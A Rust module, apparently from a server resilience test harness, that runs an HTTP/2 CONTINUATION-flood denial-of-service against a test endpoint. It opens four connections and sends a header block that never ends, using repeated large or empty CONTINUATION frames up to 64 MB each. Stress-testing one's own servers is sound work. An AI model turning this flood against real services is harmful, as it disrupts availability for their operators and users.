use crate::crowd::{PATIENCE, crowd, flood, renew};
use crate::frames;
use crate::round::{Kind, Round};

const CONNECTIONS: usize = 4;
const BYTES_MAX: usize = 64 << 20;

/// A head whose CONTINUATION frames never end: with fields, and empty ones.
pub(super) fn run(round: &mut Round) -> Result<(), String> {
    let mut endpoint = round.endpoint(Kind::Memory)?;
    let requests = endpoint.requests;
    let block = frames::request_block(&requests, "ListTables");
    let field = frames::block([("x-a", "b".repeat(1_000).as_str())]).repeat(16);
    let mut sent = 0;
    round.attack_endpoint(&mut endpoint, |until| {
        let floods = crowd(CONNECTIONS, |index| {
            renew(until, || {
                let mut connection = frames::open(requests.address, &[], PATIENCE)?;
                connection.send(&frames::headers(1, &block, 0))?;
                let more = match index % 2 {
                    0 => frames::continuation(1, &field, 0),
                    _ => frames::continuation(1, &[], 0).repeat(1_000),
                };
                flood(connection, true, BYTES_MAX, until, || more.clone())
            })
        });
        sent = floods.into_iter().sum();
        Ok(())
    })?;
    round.note(format!("{} KB of one head were sent", sent >> 10));
    Ok(())
}
